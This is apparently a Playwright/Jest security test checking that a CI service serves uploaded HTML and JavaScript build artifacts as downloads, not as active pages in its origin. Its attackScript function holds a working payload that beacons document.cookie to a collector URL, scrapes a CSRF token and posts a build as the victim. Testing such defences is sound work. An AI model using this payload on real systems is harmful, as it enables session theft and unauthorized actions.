/**
 * Artifacts in Chromium (test/support/browser.ts) against Windsock on loopback, on both stores: an
 * HTML artifact whose script reads the new-build form's CSRF token and posts a build, opened from
 * the build page's artifact table, from an annotation's `artifact://` link and by its content URL,
 * never runs in Windsock's origin (it is a download: no build is created, no cookie leaves), while
 * the same script run in the origin does create a build (so it is the serving that stops it). A
 * `.js` artifact cannot be loaded as a script by a page of the origin, and an annotation's
 * `artifact://` image is shown.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { auth, describeEachDatabase } from '../support/context';
import { launchBrowser, withPage } from '../support/browser';
import { agentAuth } from '../support/agents';
import { liveWindsock, type LiveWindsock } from '../sdk/support';
import { givenArtifacts, givenRunningJob } from '../artifacts/helpers';
import { signIn } from './web-support';

jest.setTimeout(120_000);

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==', 'base64');

/** The attack: read the new-build form's CSRF token as the signed-in user, post a build, and report the cookies to `collector`. */
function attackScript(base: string, collector: string): string {
  return `(async () => {
  const beacon = (what) => fetch(${JSON.stringify(collector)} + '/' + what, { mode: 'no-cors' }).catch(() => undefined);
  await beacon('ran?cookie=' + encodeURIComponent(document.cookie));
  const form = await (await fetch(${JSON.stringify(`${base}/builds/new`)}, { credentials: 'include', headers: { Accept: 'text/html' } })).text();
  const csrf = /name="_csrf" value="([^"]+)"/.exec(form)[1];
  await fetch(${JSON.stringify(`${base}/builds`)}, {
    method: 'POST',
    credentials: 'include',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ _csrf: csrf, commit: 'HEAD', branch: 'main', message: 'posted by the script' }),
  });
  await beacon('posted');
})()`;
}

describeEachDatabase('artifacts in a browser', null, (_get, kind) => {
  let live: LiveWindsock;
  let browser: Browser;
  let collector: http.Server;
  const collected: string[] = [];
  let collectorUrl = '';
  beforeAll(async () => {
    live = await liveWindsock(kind);
    browser = await launchBrowser();
    collector = http.createServer((req, res) => {
      collected.push(req.url ?? '');
      res.setHeader('Access-Control-Allow-Origin', '*');
      res.end('ok');
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
    collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => collector?.close(resolve));
    await live?.close();
  });

  it("never runs an HTML artifact's script in Windsock's origin, nor a .js artifact as its script, and shows an annotation's artifact image", async () => {
    const ctx = live.ctx;
    const g = await givenRunningJob(ctx);
    const pagePath = `/${g.org.slug}/${g.slug}/builds/${g.build.number}`;
    const pipelineBase = `/${g.org.slug}/${g.slug}`;
    const script = attackScript(pipelineBase, collectorUrl);
    const [htmlId, jsId] = await givenArtifacts(ctx, g.agent, g.job.id, [
      { path: 'report.html', content: `<!doctype html><title>report</title><p>Coverage</p><script>${script}</script>` },
      { path: 'attack.js', content: script },
      { path: 'shot.png', content: PNG },
    ]);
    const body = 'See the <a href="artifact://report.html">coverage report</a>.\n\n<img src="artifact://shot.png" alt="screenshot" width="10" height="10">';
    await ctx.http().post(`/v3/jobs/${g.job.id}/annotations`).set(agentAuth(g.agent.token)).send({ body, context: 'coverage' }).expect(201);
    const builds = async () =>
      (await ctx.http().get(`/v2/organizations/${g.org.slug}/pipelines/${g.slug}/builds`).set(auth(g.token)).expect(200)).body as unknown[];
    expect(await builds()).toHaveLength(1);

    await withPage(browser, async (page: Page, context) => {
      await signIn(page, live.url, g.token);
      // A cookie a script could read (the session's is HttpOnly): it must never reach the collector.
      await context.addCookies([{ name: 'probe', value: 'readable-by-scripts', url: live.url }]);
      await page.goto(`${live.url}${pagePath}`);

      // The annotation's image is shown: the artifact://shot.png went to its content.
      const image = page.locator('section.annotation img[alt="screenshot"]');
      const width = await image.evaluate((element) => {
        const img = element as unknown as { complete: boolean; naturalWidth: number; onload: () => void; onerror: () => void };
        return img.complete ? img.naturalWidth : new Promise<number>((resolve) => (img.onload = img.onerror = () => resolve(img.naturalWidth)));
      });
      expect(width).toBe(1);

      // The artifact table's link and the annotation's link are downloads, not pages of the origin.
      await page.locator('#tab-artifacts-tab').click(); // the artifacts are a tab of the build page
      for (const link of [
        page.locator(`a[href="${pagePath}/jobs/${g.job.id}/artifacts/${htmlId}"]`),
        page.locator('section.annotation a', { hasText: 'coverage report' }),
      ]) {
        const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
        expect(download.suggestedFilename()).toBe('report.html');
        expect(new URL(download.url()).pathname).toBe(`/artifact-content/${htmlId}`);
        expect(page.url()).toBe(`${live.url}${pagePath}`);
      }

      // The content URL opened directly is a download too.
      const signed = (
        await ctx
          .http()
          .get(`/v2/organizations/${g.org.slug}/pipelines/${g.slug}/builds/${g.build.number}/jobs/${g.job.id}/artifacts/${htmlId}/download`)
          .set(auth(g.token))
          .expect(302)
      ).headers.location!;
      const opened = await context.newPage();
      const [direct] = await Promise.all([opened.waitForEvent('download'), opened.goto(signed).catch(() => undefined)]);
      expect(direct.suggestedFilename()).toBe('report.html');
      await opened.close();

      // A page of the origin cannot load the .js artifact as a script (nosniff, and not a script type).
      const jsUrl = (await ctx.http().get(`/v2/organizations/${g.org.slug}/jobs/${g.job.id}/artifacts/${jsId}/download`).set(auth(g.token)).expect(302)).headers
        .location!;
      const loaded = await page.evaluate(
        (src) =>
          new Promise<string>((resolve) => {
            const d = (globalThis as unknown as { document: { createElement(t: string): Record<string, unknown>; head: { append(e: unknown): void } } })
              .document;
            const s = d.createElement('script');
            s.onload = () => resolve('loaded');
            s.onerror = () => resolve('refused');
            s.src = src;
            d.head.append(s);
          }),
        jsUrl,
      );
      expect(loaded).toBe('refused');

      expect(await builds()).toHaveLength(1);
      expect(collected).toEqual([]);

      // The control: the same script, run in Windsock's origin (as the artifact would have run
      // if served inline), does create a build: only the serving rules stopped it.
      await page.evaluate(script);
      expect(await builds()).toHaveLength(2);
      expect(((await builds())[0] as { message: string }).message).toBe('posted by the script');
    });
  });
});
